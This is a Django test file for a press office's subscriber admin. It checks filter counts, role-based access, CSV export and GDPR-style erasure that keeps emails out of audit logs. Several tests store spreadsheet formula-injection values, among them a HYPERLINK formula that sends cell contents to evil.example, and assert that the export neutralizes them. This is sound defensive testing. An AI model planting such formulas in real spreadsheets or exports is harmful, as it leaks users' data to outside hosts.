"""The press office's view of subscribers: counts per filter, status, CSV, erasure."""

import csv
import io

import pytest
from django.contrib.admin.models import LogEntry
from django.test import Client

from alerts.models import Delivery, Subscription
from tests.alerts.helpers import subscriber
from tests.factories import ArticleFactory

pytestmark = pytest.mark.django_db

LIST = "/admin/alerts/subscription/"


@pytest.fixture
def office(press_officer):
    client = Client()
    client.force_login(press_officer)
    return client


@pytest.fixture
def subscribers():
    return [
        subscriber("a@example.com", query="region=mx"),
        subscriber("b@example.com", query="region=mx"),
        subscriber("c@example.com", query="region=mx", status=Subscription.Status.PENDING),
        subscriber("d@example.com", query="", status=Subscription.Status.UNSUBSCRIBED),
        subscriber("=HYPERLINK(1)@example.com", query="type=report"),
    ]


def test_the_list_counts_subscribers_per_filter(office, subscribers):
    response = office.get(LIST)
    assert response.status_code == 200
    summary = {row["query"]: row for row in response.context["filter_summary"]}
    assert (summary["region=mx"]["confirmed"], summary["region=mx"]["pending"]) == (2, 1)
    assert summary[""]["stopped"] == 1 and summary["type=report"]["total"] == 1
    page = response.content.decode()
    assert "Mexico" in page and "Everything the newsroom publishes" in page
    # The list filters by status and by filter.
    confirmed = office.get(LIST, {"status__exact": "confirmed"}).context["cl"].result_count
    assert confirmed == 3
    assert office.get(LIST, {"filter": "region=mx"}).context["cl"].result_count == 3
    assert office.get(LIST, {"filter": "-"}).context["cl"].result_count == 1


def test_staff_cannot_add_subscribers(office):
    assert office.get(f"{LIST}add/").status_code == 403


@pytest.mark.parametrize("role", ["writer", "editor"])
def test_other_roles_do_not_see_subscribers(request, role, subscribers):
    client = Client()
    client.force_login(request.getfixturevalue(role))
    assert client.get(LIST).status_code == 403


def test_csv_export(office, subscribers):
    response = office.post(
        LIST,
        {"action": "export_csv", "_selected_action": [s.pk for s in subscribers]},
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 5
    by_email = {row["email"]: row for row in rows}
    assert by_email["a@example.com"]["filter described"] == "Mexico"
    assert by_email["a@example.com"]["status"] == "confirmed"
    assert by_email["a@example.com"]["confirmed at"]
    # A formula typed into the public form stays text in a spreadsheet.
    assert "'=HYPERLINK(1)@example.com" in by_email


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", " \t@"])
def test_csv_export_keeps_every_typed_cell_text(office, start):
    formula = f'{start}HYPERLINK("https://evil.example/?d="&A2,"x")'
    # A row as it may already be stored: the form refuses such addresses today.
    typed = Subscription.objects.create(
        email=f"{start}x@example.com",
        query="q=cmd",
        consent_text=formula,
        status=Subscription.Status.CONFIRMED,
        bounce_count=2,
    )
    response = office.post(LIST, {"action": "export_csv", "_selected_action": [typed.pk]})
    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["email"] == f"'{start}x@example.com"
    assert row["consent text"] == "'" + formula
    assert row["filter"] == "q=cmd"
    # Numbers the export writes itself stay numbers.
    assert (row["bounces"], row["digest hour"]) == ("2", "8")


def test_erase_one_on_request(office, subscribers):
    doomed = subscribers[0]
    article = ArticleFactory()
    Delivery.objects.create(subscription=doomed, article=article)
    office.post(
        f"{LIST}{doomed.pk}/change/",
        {"status": "suspended", "frequency": "instant", "digest_hour": 8},
    )
    response = office.post(f"{LIST}{doomed.pk}/delete/", {"post": "yes"})
    assert response.status_code == 302
    assert not Subscription.objects.filter(pk=doomed.pk).exists()
    assert not Delivery.objects.exists()
    entries = list(LogEntry.objects.values_list("object_repr", "change_message"))
    assert f"Alert subscription #{doomed.pk}" in [repr_ for repr_, _ in entries]
    assert not any("a@example.com" in f"{r} {m}" for r, m in entries)


def test_erase_several(office, subscribers):
    response = office.post(
        LIST,
        {
            "action": "delete_selected",
            "_selected_action": [s.pk for s in subscribers[:2]],
            "post": "yes",
        },
    )
    assert response.status_code == 302
    assert Subscription.objects.count() == 3
    assert LogEntry.objects.filter(object_repr__startswith="Alert subscription #").count() == 2
    assert not LogEntry.objects.filter(object_repr__contains="@").exists()
